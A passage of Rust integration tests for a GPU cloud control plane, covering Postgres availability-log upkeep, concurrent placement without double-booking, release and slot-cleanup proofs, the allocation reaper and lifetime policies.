    assert!(upkeep.folded >= 1_200 && !upkeep.vacuumed, "{upkeep:?}");
    other.rollback().await.unwrap();
    // The vacuum it gave way on is still owed: the next round pays it, however little it folds.
    log_cancelling_changes(&cp, 5).await;
    let upkeep = cp.keep_availability().await.unwrap();
    assert!(upkeep.folded >= 10 && upkeep.vacuumed, "{upkeep:?}");

    // Under load the rewrite can't get its lock (here a reader holds the table): the round
    // says the file is not compact, and the rewrite is tried every round until it gets it.
    // (A round needs the rewrite only when the folded rows landed at the end of the file,
    // which a vacuum can't cut off: up to ten busy seconds to see one.)
    let reader = lock_the_log(&cp, "ACCESS SHARE").await;
    let mut owed = None;
    for _ in 0..10 {
        log_cancelling_changes(&cp, 2_000).await;
        let upkeep = cp.keep_availability().await.unwrap();
        assert!(upkeep.vacuumed, "{upkeep:?}");
        if !upkeep.compact {
            owed = Some(upkeep);
            break;
        }
    }
    assert!(owed.is_some(), "no busy second left the file sparse");
    let upkeep = cp.keep_availability().await.unwrap();
    assert!(
        !upkeep.compact && !upkeep.vacuumed,
        "still owed: {upkeep:?}"
    );
    reader.rollback().await.unwrap();
    let upkeep = cp.keep_availability().await.unwrap();
    assert!(upkeep.compact && !upkeep.vacuumed, "{upkeep:?}");
    let pages: i64 = sqlx::query_scalar("SELECT pg_relation_size('availability_changes') / 8192")
        .fetch_one(cp.pool())
        .await
        .unwrap();
    assert!(pages <= 2, "{pages} pages after the owed rewrite");
    assert_eq!(catalog_shows(&cp, "h100.1x").await, 6);
}

/// A transaction holding `mode` on the availability log (as another replica's vacuum, or a
/// reader, would), until it is rolled back.
async fn lock_the_log(cp: &ControlPlane, mode: &str) -> sqlx::Transaction<'static, sqlx::Postgres> {
    let mut tx = cp.pool().begin().await.unwrap();
    sqlx::query(&format!("LOCK TABLE availability_changes IN {mode} MODE"))
        .execute(&mut *tx)
        .await
        .unwrap();
    tx
}

/// Logs `pairs` changes of +1 and −1 on one key of the log: a busy second that changes nothing.
async fn log_cancelling_changes(cp: &ControlPlane, pairs: i32) {
    sqlx::query(
        "INSERT INTO availability_changes
         SELECT c.shape, c.gpu_model, c.size, c.region, c.family, c.min_vcpus,
                c.min_memory_mib, c.min_nvme_bytes, d.sign
         FROM (SELECT * FROM availability_changes LIMIT 1) c,
              generate_series(1, $1) AS i, (VALUES (1), (-1)) AS d (sign)",
    )
    .bind(pairs)
    .execute(cp.pool())
    .await
    .unwrap();
}

#[tokio::test]
async fn draining_drifted_and_silent_nodes_take_nothing_and_the_explanation_counts_them() {
    let (_db, cp, ops) = setup().await;
    let (a, ..) = hgx(&cp, &ops, "gpu-a").await;
    let (b, ..) = hgx(&cp, &ops, "gpu-b").await;
    let (c, ..) = hgx(&cp, &ops, "gpu-c").await;
    cp.set_admin_state(&ops, a, control_plane::fleet::AdminState::Draining, None)
        .await
        .unwrap();
    sqlx::query("UPDATE nodes SET last_heartbeat_at = now() - interval '5 minutes' WHERE id = $1")
        .bind(b.0)
        .execute(cp.pool())
        .await
        .unwrap();
    // The catalog's count lets go of a silent node at the next sweep (every second in a
    // server); placement never takes it, swept or not (below).
    let swept = cp.keep_availability().await.unwrap();
    assert_eq!(swept.lapsed, 1);
    sqlx::query("UPDATE node_resource_slots SET drift = 'GPU gone', drift_generation = approved_generation WHERE node_id = $1 AND slot_index = 3")
        .bind(c.0)
        .execute(cp.pool())
        .await
        .unwrap();
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    assert_eq!(availability(&cp, "h100.8x").await, 0);
    assert_eq!(
        availability(&cp, "h100.4x").await,
        1,
        "only c's second half"
    );
    let err = launch(&cp, &bob, "h100.8x", "eight").await.unwrap_err();
    let m = err.to_string();
    assert!(
        m.contains("of 3 node(s) with this GPU: 1 draining, 1 without a recent heartbeat or unhealthy, 1 with fewer than 8 free GPUs"),
        "{m}"
    );
    assert!(
        m.contains("1 draining") && m.contains("1 without a recent heartbeat"),
        "{m}"
    );
    let four = launch(&cp, &bob, "h100.4x", "four").await.unwrap();
    assert_eq!(slot_indexes(&cp, four).await, vec![4, 5, 6, 7]);
    // The dry run answers where and why without reserving.
    let plan = cp.placement_dry_run(&ops, "h100.2x", None).await.unwrap();
    assert_eq!(plan.node_id, c);
    assert_eq!(plan.slot_indexes, vec![0, 2]);
    let claims: i64 = sqlx::query_scalar("SELECT count(*) FROM resource_claims")
        .fetch_one(cp.pool())
        .await
        .unwrap();
    assert_eq!(claims, 4);
}

/// A refusal older than its TTL is answered at once, and counted again off the launch's path:
/// the next refusals say what changed without any of them having waited for the count.
#[tokio::test]
async fn a_stale_explanation_is_answered_at_once_while_it_is_counted_again() {
    let (_db, cp, ops) = setup().await;
    let cp = cp.with_refusal_reasons_ttl(Duration::from_millis(200));
    let (a, ..) = hgx(&cp, &ops, "gpu-a").await;
    let (b, ..) = hgx(&cp, &ops, "gpu-b").await;
    cp.set_admin_state(&ops, a, control_plane::fleet::AdminState::Draining, None)
        .await
        .unwrap();
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    launch(&cp, &bob, "h100.8x", "eight").await.unwrap();
    let first = launch(&cp, &bob, "h100.8x", "nine")
        .await
        .unwrap_err()
        .to_string();
    assert!(
        first.contains("1 draining, 1 with fewer than 8 free GPUs"),
        "{first}"
    );
    // b falls silent: the count would now say so, but the kept one is answered until the
    // background count is in.
    sqlx::query("UPDATE nodes SET last_heartbeat_at = now() - interval '5 minutes' WHERE id = $1")
        .bind(b.0)
        .execute(cp.pool())
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_millis(250)).await;
    let stale = launch(&cp, &bob, "h100.8x", "ten")
        .await
        .unwrap_err()
        .to_string();
    assert!(stale.contains("1 with fewer than 8 free GPUs"), "{stale}");
    let mut seen = stale;
    for _ in 0..100 {
        if seen.contains("1 without a recent heartbeat") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
        seen = launch(&cp, &bob, "h100.8x", "eleven")
            .await
            .unwrap_err()
            .to_string();
    }
    assert!(
        seen.contains("1 draining, 1 without a recent heartbeat or unhealthy"),
        "the background count never landed: {seen}"
    );
}

#[tokio::test]
async fn many_concurrent_launches_on_a_nearly_full_fleet_get_exactly_the_free_slots() {
    let (_db, cp, ops) = setup().await;
    for h in ["gpu-a", "gpu-b", "gpu-c"] {
        hgx(&cp, &ops, h).await;
    }
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    // Fill 19 of 24 slots.
    for i in 0..19 {
        launch(&cp, &bob, "h100.1x", &format!("fill-{i}"))
            .await
            .unwrap();
    }
    assert_eq!(availability(&cp, "h100.1x").await, 5);
    let bob = std::sync::Arc::new(bob);
    let mut tasks = Vec::new();
    for i in 0..24 {
        let cp = cp.clone();
        let bob = bob.clone();
        tasks.push(tokio::spawn(async move {
            launch(&cp, &bob, "h100.1x", &format!("race-{i}")).await
        }));
    }
    let mut ok = 0;
    for t in tasks {
        match t.await.unwrap() {
            Ok(_) => ok += 1,
            Err(Error::SkuUnavailable(_)) => {}
            Err(e) => panic!("a launch failed with {e}, not sku_unavailable"),
        }
    }
    assert_eq!(ok, 5);
    assert_eq!(double_bookings(&cp).await, 0);
    assert_eq!(availability(&cp, "h100.1x").await, 0);
}

/// 32 launchers at once onto a fleet with exactly 32 free GPUs on 4 nodes: every launch
/// succeeds. Each launch has its own connection, as on a busy server, so most find every node
/// being reserved by another launch at first; those candidates are waited for (until
/// placement's deadline), not counted as full.
#[tokio::test]
async fn thirty_two_concurrent_launches_onto_exactly_enough_capacity_all_succeed() {
    let (_db, cp, ops) = setup().await;
    let pool = cp.pool().clone();
    for i in 0..4 {
        hgx(&cp, &ops, &format!("gpu-{i}")).await;
    }
    assert_eq!(availability(&cp, "h100.1x").await, 32);
    // As many connections as launchers, so they really run at once.
    let wide = sqlx::postgres::PgPoolOptions::new()
        .max_connections(33)
        .connect_with(pool.sqlx().connect_options().as_ref().clone())
        .await
        .unwrap();
    // Waiting is what is tested, not how fast: a deadline no loaded test machine reaches (the
    // default 500 ms is for production; with 60 ms, 24 of 32 were refused here).
    let cp = ControlPlane::new(wide, Naming::default())
        .with_contention_deadline(Duration::from_secs(20));
    let bob = std::sync::Arc::new(member(&cp, BOB, ACME_RESEARCH).await);
    let start = std::sync::Arc::new(tokio::sync::Barrier::new(32));
    let mut tasks = Vec::new();
    for i in 0..32 {
        let cp = cp.clone();
        let bob = bob.clone();
        let start = start.clone();
        tasks.push(tokio::spawn(async move {
            start.wait().await;
            launch(&cp, &bob, "h100.1x", &format!("one-{i}")).await
        }));
    }
    let mut refused = Vec::new();
    for t in tasks {
        if let Err(e) = t.await.unwrap() {
            refused.push(e.to_string());
        }
    }
    assert!(refused.is_empty(), "{} refused: {refused:?}", refused.len());
    assert_eq!(double_bookings(&cp).await, 0);
    assert_eq!(availability(&cp, "h100.1x").await, 0);
    // The 33rd finds the fleet full and says so: no node was busy, so it did not wait.
    let err = launch(&cp, &bob, "h100.1x", "one-too-many")
        .await
        .unwrap_err()
        .to_string();
    assert!(err.starts_with("sku_unavailable"), "{err}");
    assert!(!err.contains("being reserved by other launches"), "{err}");
}

/// Two servers (two handles, each with its own pool and its own group placement) launch at
/// once onto one database with 32 free GPUs: exactly 32 of 48 one-GPU launches are placed,
/// the rest refused as unavailable, no slot is booked twice, and launches really were placed
/// in groups. Then every allocation is released twice at once through both, beside a release
/// of an allocation that doesn't exist.
#[tokio::test]
async fn two_servers_placing_and_releasing_in_groups_place_exactly_the_free_gpus_and_never_double_book()
 {
    let (_db, cp, ops) = setup().await;
    for i in 0..4 {
        hgx(&cp, &ops, &format!("gpu-{i}")).await;
    }
    assert_eq!(availability(&cp, "h100.1x").await, 32);
    let mut servers = Vec::new();
    for _ in 0..2 {
        let pool = sqlx::postgres::PgPoolOptions::new()
            .max_connections(12)
            .connect_with(cp.pool().sqlx().connect_options().as_ref().clone())
            .await
            .unwrap();
        servers.push(
            ControlPlane::new(pool, Naming::default())
                .with_contention_deadline(Duration::from_secs(20)),
        );
    }
    let bob = std::sync::Arc::new(member(&cp, BOB, ACME_RESEARCH).await);
    let start = std::sync::Arc::new(tokio::sync::Barrier::new(48));
    let mut tasks = Vec::new();
    for i in 0..48 {
        let server = servers[i % 2].clone();
        let bob = bob.clone();
        let start = start.clone();
        tasks.push(tokio::spawn(async move {
            start.wait().await;
            launch(&server, &bob, "h100.1x", &format!("two-{i}")).await
        }));
    }
    let (mut placed, mut refused) = (Vec::new(), 0);
    for t in tasks {
        match t.await.unwrap() {
            Ok(id) => placed.push(id),
            Err(Error::SkuUnavailable(_)) => refused += 1,
            Err(e) => panic!("a launch failed with {e}, not sku_unavailable"),
        }
    }
    assert_eq!((placed.len(), refused), (32, 16));
    assert_eq!(double_bookings(&cp).await, 0);
    assert_eq!(availability(&cp, "h100.1x").await, 0);
    let live: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM allocations WHERE name LIKE 'two-%' AND state = 'provisioning'",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(
        live, 32,
        "every placed launch has its provision task queued"
    );
    let tasks: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM agent_tasks t JOIN allocations a ON a.id = t.allocation_id
         WHERE a.name LIKE 'two-%' AND t.kind = 'slice.vm_provision'",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(tasks, 32);
    let audited: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM audit_log WHERE action = 'allocation.launch' AND after ->> 'name' LIKE 'two-%'",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(audited, 32);
    let largest = servers
        .iter()
        .map(|s| s.metrics().largest_launch_group())
        .max()
        .unwrap();
    assert!(largest > 1, "no two launches were placed together");

    // Released at once through both servers, each twice, and one that isn't the project's:
    // every allocation releasing with one release task and one audit record.
    let start = std::sync::Arc::new(tokio::sync::Barrier::new(65));
    let mut tasks = Vec::new();
    for (i, id) in placed.iter().chain(&placed).enumerate() {
        let (server, bob, start, id) = (servers[i % 2].clone(), bob.clone(), start.clone(), *id);
        tasks.push(tokio::spawn(async move {
            start.wait().await;
            server.release_allocation(&bob, id, None).await
        }));
    }
    let stranger = AllocationId::new_random();
    let (server, who, gate) = (servers[0].clone(), bob.clone(), start.clone());
    let foreign = tokio::spawn(async move {
        gate.wait().await;
        server.release_allocation(&who, stranger, None).await
    });
    for t in tasks {
        t.await.unwrap().unwrap();
    }
    assert!(matches!(
        foreign.await.unwrap(),
        Err(Error::NotFound { what: "allocation" })
    ));
    // No agent had claimed any of their provisions, so no host ever had them: each ended at
    // once, its slots clean, its release task cancelled before any agent took it.
    let released: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM allocations WHERE name LIKE 'two-%' AND state = 'released'",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(released, 32);
    let release_tasks: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM agent_tasks t JOIN allocations a ON a.id = t.allocation_id
         WHERE a.name LIKE 'two-%' AND t.kind = 'slice.vm_release'
           AND t.state = 'failed' AND t.claimed_at IS NULL",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(
        release_tasks, 32,
        "one release each, none of them for an agent"
    );
    let cleaning: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM node_resource_slots WHERE cleanup_state <> 'clean'",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(cleaning, 0);
    let audited: i64 =
        sqlx::query_scalar("SELECT count(*) FROM audit_log WHERE action = 'allocation.release'")
            .fetch_one(cp.pool())
            .await
            .unwrap();
    assert_eq!(audited, 32, "a repeated release records nothing");
    let cancelled: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM agent_tasks t JOIN allocations a ON a.id = t.allocation_id
         WHERE a.name LIKE 'two-%' AND t.kind = 'slice.vm_provision' AND t.state = 'failed'
           AND t.claimed_at IS NULL",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(
        cancelled, 32,
        "the provisions no agent started are cancelled"
    );
}

pub(crate) async fn running(
    cp: &ControlPlane,
    bob: &Project<ProjectOperators>,
    agent: &NodeAgent,
    name: &str,
) -> AllocationId {
    let id = launch(cp, bob, "h100.2x", name).await.unwrap();
    cp.dispatch_outbox(10).await.unwrap();
    answer(cp, agent, PROVISION, provisioned).await;
    id
}

/// A release that cancels a provision no agent had claimed ends at once: no host ever had the
/// allocation, so its slots stay clean and no wipe is asked of the agent. The database keeps
/// the rule: ending the claims of an allocation an agent had a task of still sends its slots
/// to `cleaning`, to come back only with a proof.
#[tokio::test]
async fn releasing_before_the_agent_starts_ends_at_once_with_its_slots_clean() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    assert_eq!(availability(&cp, "h100.2x").await, 4);
    let id = launch(&cp, &bob, "h100.2x", "quick").await.unwrap();
    assert_eq!(availability(&cp, "h100.2x").await, 3);
    cp.release_allocation(&bob, id, None).await.unwrap();
    assert_eq!(
        state(&cp, id).await,
        ("released".into(), "released".into(), "absent".into())
    );
    assert_eq!(cleanup_states(&cp, node).await, vec!["clean"; 8]);
    assert_eq!(availability(&cp, "h100.2x").await, 4);
    assert!(
        cp.claim_task(&agent, Duration::ZERO)
            .await
            .unwrap()
            .is_none(),
        "nothing for the agent to do"
    );
    let principal = cp.principal(BOB).await.unwrap().unwrap();
    let d = cp.allocation(&principal, id).await.unwrap();
    let path: Vec<&str> = d.transitions.iter().map(|t| t.to.as_str()).collect();
    assert_eq!(
        path,
        [
            "requested",
            "placed",
            "provisioning",
            "releasing",
            "released"
        ]
    );
    assert!(d.certificates.is_empty());

    // An allocation whose provision the agent has: its claims' end asks for a wipe, whoever
    // ends them.
    let kept = launch(&cp, &bob, "h100.2x", "kept").await.unwrap();
    cp.claim_task(&agent, Duration::ZERO)
        .await
        .unwrap()
        .expect("its provision");
    end_claims(&mut cp.pool().acquire().await.unwrap(), kept).await;
    let mut states = cleanup_states(&cp, node).await;
    states.sort();
    assert_eq!(
        states,
        [vec!["clean"; 6], vec!["cleaning"; 2]].concat(),
        "the two slots an agent had are waiting for their proof"
    );
}

/// An agent runs one task at a time, and a tenant waits on a launch while a wipe only holds
/// back capacity: a node's queued provisions are handed out before its other queued tasks,
/// even ones queued earlier, and the rest follow in the order queued.
#[tokio::test]
async fn an_agent_is_handed_its_nodes_launches_before_earlier_releases() {
    let (_db, cp, ops) = setup().await;
    let (_node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let first = running(&cp, &bob, &agent, "first").await;
    let second = running(&cp, &bob, &agent, "second").await;
    cp.release_allocation(&bob, first, None).await.unwrap();
    cp.release_allocation(&bob, second, None).await.unwrap();
    let later = launch(&cp, &bob, "h100.2x", "later").await.unwrap();

    let mut handed = Vec::new();
    while let Some(task) = cp.claim_task(&agent, Duration::ZERO).await.unwrap() {
        let allocation = match &task.spec {
            TaskSpec::VmProvision(p) => p.allocation_id.clone(),
            TaskSpec::VmRelease(p) => p.allocation_id.clone(),
            other => panic!("unexpected task {other:?}"),
        };
        handed.push((task.spec.kind(), allocation));
    }
    assert_eq!(
        handed,
        [
            ("slice.vm_provision", later.to_string()),
            ("slice.vm_release", first.to_string()),
            ("slice.vm_release", second.to_string()),
        ],
        "the launch first, then the releases in the order asked"
    );
}

/// The free blocks the database keeps for a node, in key order.
async fn free_blocks(conn: &mut sqlx::PgConnection, node: NodeId) -> Vec<(i32, i32, i32, bool)> {
    sqlx::query_as(
        "SELECT block_size, free_blocks, free_slots, whole_node_free FROM node_free_blocks
         WHERE node_id = $1 ORDER BY gpu_model, block_size",
    )
    .bind(node.0)
    .fetch_all(conn)
    .await
    .unwrap()
}

/// Ends an allocation's claims by hand, as a wipe's start or a release does.
async fn end_claims(conn: &mut sqlx::PgConnection, allocation: AllocationId) {
    sqlx::query("UPDATE resource_claims SET released_at = now() WHERE allocation_id = $1")
        .bind(allocation.0)
        .execute(conn)
        .await
        .unwrap();
}

/// The free blocks the triggers kept for `node`, checked against a full refresh.
async fn kept_blocks_as_refreshed(
    conn: &mut sqlx::PgConnection,
    node: NodeId,
) -> Vec<(i32, i32, i32, bool)> {
    let kept = free_blocks(&mut *conn, node).await;
    sqlx::query("SELECT refresh_node_free_blocks($1)")
        .bind(node.0)
        .execute(&mut *conn)
        .await
        .unwrap();
    assert_eq!(
        kept,
        free_blocks(conn, node).await,
        "what the triggers kept is what a refresh computes"
    );
    kept
}

/// A release's claims end and their slots go to `cleaning` in one statement, and the node is
/// refreshed once for both (migration 0036 skips the slots' own refresh for that one nested
/// update). A later change to the node's slots in the same transaction is still counted.
#[tokio::test]
async fn a_release_refreshes_its_node_once_and_later_slot_changes_still_count() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let id = running(&cp, &bob, &agent, "held").await;
    let mut tx = cp.pool().begin().await.unwrap();
    end_claims(&mut tx, id).await;
    sqlx::query(
        "UPDATE node_resource_slots SET cleanup_state = 'blocked', cleanup_detail = 'held back'
         WHERE id = (SELECT id FROM node_resource_slots
                     WHERE node_id = $1 AND cleanup_state = 'clean' ORDER BY slot_index LIMIT 1)",
    )
    .bind(node.0)
    .execute(&mut *tx)
    .await
    .unwrap();
    let kept = kept_blocks_as_refreshed(&mut tx, node).await;
    // Eight slots: two waiting for their proof, one blocked, five free.
    assert_eq!(kept[0], (1, 5, 5, false));
    tx.commit().await.unwrap();
    assert_eq!(availability(&cp, "h100.1x").await, 5);
}

#[tokio::test]
async fn a_failed_provision_is_cleaned_like_a_release() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, credential) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let id = launch(&cp, &bob, "h100.2x", "doomed").await.unwrap();
    cp.dispatch_outbox(10).await.unwrap();
    answer(&cp, &agent, &["validate_plan"], |_| TaskOutcome::Failed {
        error: "qemu-img: image not found".into(),
    })
    .await;
    assert_eq!(state(&cp, id).await.0, "releasing");
    cp.dispatch_outbox(10).await.unwrap();
    answer(&cp, &agent, RELEASE, |s| proof(node, &credential, s)).await;
    let principal = cp.principal(BOB).await.unwrap().unwrap();
    let d = cp.allocation(&principal, id).await.unwrap();
    assert_eq!(d.state, "released");
    assert_eq!(d.projected, "failed");
    assert_eq!(
        d.failure.as_deref(),
        Some("provision failed: qemu-img: image not found")
    );
    assert_eq!(cleanup_states(&cp, node).await, vec!["clean"; 8]);
}

#[tokio::test]
async fn a_failed_release_or_a_bad_proof_blocks_the_slots_until_an_operator_clears_them() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;

    let a = running(&cp, &bob, &agent, "a").await;
    cp.release_allocation(&bob, a, None).await.unwrap();
    cp.dispatch_outbox(10).await.unwrap();
    answer(&cp, &agent, &["stop_vm", "wipe_nvme"], |_| {
        TaskOutcome::Failed {
            error: "nvme format: device busy".into(),
        }
    })
    .await;
    assert_eq!(state(&cp, a).await.0, "released");
    let principal = cp.principal(BOB).await.unwrap().unwrap();
    assert_eq!(
        cp.allocation(&principal, a)
            .await
            .unwrap()
            .failure
            .as_deref(),
        Some("cleanup failed: nvme format: device busy")
    );
    assert_eq!(
        &cleanup_states(&cp, node).await[..3],
        ["blocked", "clean", "blocked"]
    );

    // A proof signed with the wrong credential is refused the same way.
    let b = running(&cp, &bob, &agent, "b").await;
    cp.release_allocation(&bob, b, None).await.unwrap();
    cp.dispatch_outbox(10).await.unwrap();
    answer(&cp, &agent, RELEASE, |s| {
        proof(node, "gpn_not_the_credential", s)
    })
    .await;
    let f = cp.allocation(&principal, b).await.unwrap().failure.unwrap();
    assert!(
        f.contains("does not verify with the node's credential"),
        "{f}"
    );
    assert_eq!(
        &cleanup_states(&cp, node).await[..4],
        ["blocked"; 4],
        "pairs 0+2 and 1+3"
    );
    let (posture,): (String,) =
        sqlx::query_as("SELECT posture FROM node_postures WHERE node_id = $1")
            .bind(node.0)
            .fetch_one(cp.pool())
            .await
            .unwrap();
    assert_eq!(posture, "cleanup_blocked");
    // Blocked slots are never placed on; the other 4 still are.
    assert_eq!(availability(&cp, "h100.2x").await, 2);

    let blocked: Vec<uuid::Uuid> = sqlx::query_scalar("SELECT id FROM node_resource_slots WHERE node_id = $1 AND cleanup_state = 'blocked' ORDER BY slot_index")
        .bind(node.0)
        .fetch_all(cp.pool())
        .await
        .unwrap();
    let err = cp
        .clear_blocked_slot(&ops, blocked[0].into(), " ", None)
        .await
        .unwrap_err();
    assert!(matches!(
        err,
        Error::Invalid {
            field: "reason",
            ..
        }
    ));
    for s in &blocked {
        cp.clear_blocked_slot(
            &ops,
            (*s).into(),
            "re-ran nvme format by hand; verified zeroes",
            None,
        )
        .await
        .unwrap();
    }
    assert_eq!(cleanup_states(&cp, node).await, vec!["clean"; 8]);
    let audits: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM audit_log WHERE action = 'node.slot.clear_cleanup'",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(audits, 4);
    assert_eq!(availability(&cp, "h100.8x").await, 1);
}

#[tokio::test]
async fn a_node_lost_during_provisioning_ends_the_allocation_and_blocks_its_slots() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let id = launch(&cp, &bob, "h100.2x", "lost").await.unwrap();
    cp.dispatch_outbox(10).await.unwrap();
    let control_plane::agent_api::ClaimedTask { id: task, .. } = cp
        .claim_task(&agent, Duration::ZERO)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(cp.reap_allocations().await.unwrap(), 0, "the node is alive");
    sqlx::query("UPDATE nodes SET last_heartbeat_at = now() - interval '2 minutes' WHERE id = $1")
        .bind(node.0)
        .execute(cp.pool())
        .await
        .unwrap();
    assert_eq!(cp.reap_allocations().await.unwrap(), 1);
    let (s, desired, observed) = state(&cp, id).await;
    assert_eq!(
        (s.as_str(), desired.as_str(), observed.as_str()),
        ("released", "released", "lost")
    );
    assert_eq!(
        &cleanup_states(&cp, node).await[..3],
        ["blocked", "clean", "blocked"]
    );
    // The agent coming back with a late result is told the task is over.
    let late = cp
        .finish_task(&agent, task, &provisioned(&TaskSpec::TopologyDiscover {}))
        .await
        .unwrap_err();
    assert!(late.to_string().contains("already failed"), "{late}");
    let claims: i64 =
        sqlx::query_scalar("SELECT count(*) FROM resource_claims WHERE released_at IS NULL")
            .fetch_one(cp.pool())
            .await
            .unwrap();
    assert_eq!(claims, 0, "no slot leaks");
}

/// The reaper's release of an allocation no agent had yet ends at once as well, and the
/// release it left in the outbox then finds nothing to do.
#[tokio::test]
async fn an_expired_allocation_no_host_saw_ends_at_once() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    research_policy(&cp, PolicyValue::MaxAllocationLifetimeHours(2)).await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let id = launch(&cp, &bob, "h100.2x", "never-ran").await.unwrap();
    sqlx::query("UPDATE allocations SET expires_at = now() - interval '1 second' WHERE id = $1")
        .bind(id.0)
        .execute(cp.pool())
        .await
        .unwrap();
    assert_eq!(cp.reap_allocations().await.unwrap(), 1);
    assert_eq!(
        state(&cp, id).await,
        ("released".into(), "released".into(), "absent".into())
    );
    cp.dispatch_outbox(10).await.unwrap();
    assert!(
        cp.claim_task(&agent, Duration::ZERO)
            .await
            .unwrap()
            .is_none(),
        "nothing for the agent to do"
    );
    assert_eq!(cleanup_states(&cp, node).await, vec!["clean"; 8]);
    assert_eq!(availability(&cp, "h100.2x").await, 4);
}

#[tokio::test]
async fn an_allocation_past_its_policy_lifetime_is_released_by_the_reaper() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, credential) = hgx(&cp, &ops, "gpu-a").await;
    research_policy(&cp, PolicyValue::MaxAllocationLifetimeHours(2)).await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let id = running(&cp, &bob, &agent, "short").await;
    let principal = cp.principal(BOB).await.unwrap().unwrap();
    let expires = cp.allocation(&principal, id).await.unwrap().expires_at;
    assert!(expires.is_some(), "the lifetime policy sets an expiry");
    assert_eq!(cp.reap_allocations().await.unwrap(), 0, "not expired yet");
    sqlx::query("UPDATE allocations SET expires_at = now() - interval '1 second' WHERE id = $1")
        .bind(id.0)
        .execute(cp.pool())
        .await
        .unwrap();
    assert_eq!(cp.reap_allocations().await.unwrap(), 1);
    assert_eq!(
        state(&cp, id).await,
        ("releasing".into(), "released".into(), "running".into())
    );
    cp.dispatch_outbox(10).await.unwrap();
    answer(&cp, &agent, RELEASE, |s| proof(node, &credential, s)).await;
    assert_eq!(state(&cp, id).await.0, "released");
    let expired: i64 =
        sqlx::query_scalar("SELECT count(*) FROM audit_log WHERE action = 'allocation.expire'")
            .fetch_one(cp.pool())
            .await
            .unwrap();
    assert_eq!(expired, 1);
}

#[tokio::test]
async fn a_chosen_lifetime_sets_the_expiry_within_the_policy() {
    let (_db, cp, ops) = setup().await;
    hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let lived = |id: AllocationId| {
        let pool = cp.pool().clone();
        async move {
            sqlx::query_scalar::<_, Option<f64>>(
                "SELECT (extract(epoch FROM expires_at - requested_at) / 3600)::float8 FROM allocations WHERE id = $1",
            )
            .bind(id.0)
            .fetch_one(&pool)
            .await
            .unwrap()
        }
    };
    let with = |name: &str, hours: Option<u32>| LaunchRequest {
        lifetime_hours: hours,
        ..request("h100.1x", name)
    };
    // No policy: kept until released, or released after the hours asked for.
    let forever = cp
        .launch(&bob, &with("forever", None), None)
        .await
        .unwrap()
        .id;
    assert_eq!(lived(forever).await, None);
    let eight = cp
        .launch(&bob, &with("eight", Some(8)), None)
        .await
        .unwrap()
        .id;
    assert_eq!(lived(eight).await, Some(8.0));
    for bad in [0, 8761] {
        let err = cp
            .launch(&bob, &with("bad", Some(bad)), None)
            .await
            .unwrap_err();
        assert!(
            matches!(
                err,
                Error::Invalid {
                    field: "lifetime_hours",
                    ..
                }
            ),
            "{err}"
        );
    }
    // A lifetime policy caps what may be asked, and is the default.
    research_policy(&cp, PolicyValue::MaxAllocationLifetimeHours(24)).await;
    assert_eq!(
        refusal(cp.launch(&bob, &with("long", Some(48)), None)).await,
        "policy max_allocation_lifetime_hours (set at project level) allows allocations to live 24 hours; this launch asked for 48"
    );
    let capped = cp
        .launch(&bob, &with("capped", None), None)
        .await
        .unwrap()
        .id;
    assert_eq!(lived(capped).await, Some(24.0));
    let short = cp
        .launch(&bob, &with("short", Some(2)), None)
        .await
        .unwrap()
        .id;
    assert_eq!(lived(short).await, Some(2.0));
}

#[tokio::test]
async fn guest_utilisation_is_kept_only_for_the_reporting_nodes_own_allocations() {
    let (_db, cp, ops) = setup().await;
    let (node_a, agent_a, _) = hgx(&cp, &ops, "gpu-util-a").await;
    let (_node_b, agent_b, _) = hgx(&cp, &ops, "gpu-util-b").await;
    let alloc = crate::support::bare_allocation(&cp, node_a).await;
    let report = |pct| agent_protocol::GpuUtilisation {
        allocation_id: alloc.to_string(),
        gpu_util_pct: pct,
        samples: 4,
    };
    let ok = agent_protocol::HealthStatus::Healthy;
    cp.heartbeat(&agent_a, "0.1.0", ok, None, &[report(72)])
        .await
        .unwrap();
    // Another node can't write figures for an allocation that is not on it.
    cp.heartbeat(&agent_b, "0.1.0", ok, None, &[report(5)])
